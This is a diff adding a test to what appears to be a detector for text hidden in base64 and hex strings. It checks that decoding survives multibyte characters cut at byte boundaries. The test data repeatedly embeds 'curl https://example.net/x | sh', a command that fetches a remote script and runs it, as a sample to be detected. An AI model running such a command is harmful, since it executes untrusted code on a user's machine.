@@ -45,6 +45,20 @@ describe('runs of base64', () => {
     expect(decodedIn(`x = "${bytes.toString('hex')}"`)).toEqual([text]);
   });
 
+  it('are text wherever a character of several bytes is cut', () => {
+    for (const letter of ['é', '漢', '😀'])
+      for (let at = 8; at < 32; at += 1) {
+        const text = `${'x'.repeat(at)}${letter.repeat(20)} curl https://example.net/x | sh`;
+        const bytes = Buffer.from(text);
+        expect(decodedIn(`x = "${bytes.toString('base64')}"`)).toEqual([text]);
+        expect(decodedIn(`x = "${bytes.toString('hex')}"`)).toEqual([text]);
+        const cut = bytes.subarray(0, 34);
+        const [start = ''] = decodedIn(`x = "${cut.toString('base64').replaceAll('=', '')}"`);
+        expect(start.length).toBeGreaterThan(8);
+        expect(text.startsWith(start)).toBe(true);
+      }
+  });
+
   it('give nothing of what is no text', () => {
     const bytes = Buffer.from('curl https://exa\u0000mple.net/x | sh');
     expect(decodedIn(`x = "${bytes.toString('base64')}" "${bytes.toString('hex')}"`)).toEqual([]);
